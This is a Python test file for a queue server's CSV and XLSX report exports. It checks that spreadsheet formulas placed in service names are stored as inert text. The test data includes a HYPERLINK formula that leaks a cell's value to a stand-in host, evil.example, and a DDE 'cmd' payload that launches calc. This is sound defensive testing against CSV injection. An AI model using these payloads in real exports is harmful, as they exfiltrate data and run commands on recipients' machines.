"""Exported cells are inert text (issue 18 point 6): a service named like a formula is shown, never run, in the
CSV and XLSX report exports and in every other workbook a hall exports, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from queue_server.clock import FrozenClock
from queue_server.reports import export
from queue_server.storage.models import Service
from queue_server.storage.runtime import Runtime
from queue_server.storage.store import Store
from tests.factories import BasicHall
from tests.factories import bearer
from tests.reports.scenario import play
from tests.reports.scenario import scenario_hall

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
EXPORT = "/api/v1/halls/t1/reports/export?from=2026-03-02&to=2026-03-31&by=service"


@pytest.fixture
def evil_hall(store: Store, clock: FrozenClock, runtime: Runtime) -> BasicHall:
    tokens = scenario_hall(store, clock)
    play(runtime, clock)
    with store.transaction() as s:
        s.execute(update(Service).where(Service.code == "a").values(name=EVIL))
        s.execute(update(Service).where(Service.code == "b").values(name="@SUM(1+1)"))
    return tokens


def test_a_formula_service_name_is_text_in_the_csv_export(client: Any, evil_hall: BasicHall) -> None:
    response = client.get(EXPORT + "&format=csv", headers=bearer(evil_hall.manager))

    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    labels = [r[0] for r in rows[2:-1]]
    assert sorted(labels) == sorted(["'" + EVIL, "'@SUM(1+1)"])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_formula_service_name_is_text_in_the_xlsx_export(client: Any, evil_hall: BasicHall) -> None:
    response = client.get(EXPORT + "&format=xlsx", headers=bearer(evil_hall.manager))

    sheet = load_workbook(io.BytesIO(response.data))["报表 report"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert "'" + EVIL in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)  # no cell is a formula


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_exported_workbook_neutralises_a_leading_formula_character(text: str) -> None:
    book = load_workbook(io.BytesIO(export.workbook("审计日志 audit", ["操作人 actor", "数 n"], [[text, -3]])))

    actor, number = next(book.active.iter_rows(min_row=2, values_only=True))  # type: ignore[union-attr]
    assert actor.startswith("'") and actor[2:] == text[1:]  # XML keeps \r as \n; the apostrophe is first
    assert number == -3  # a negative figure stays a number
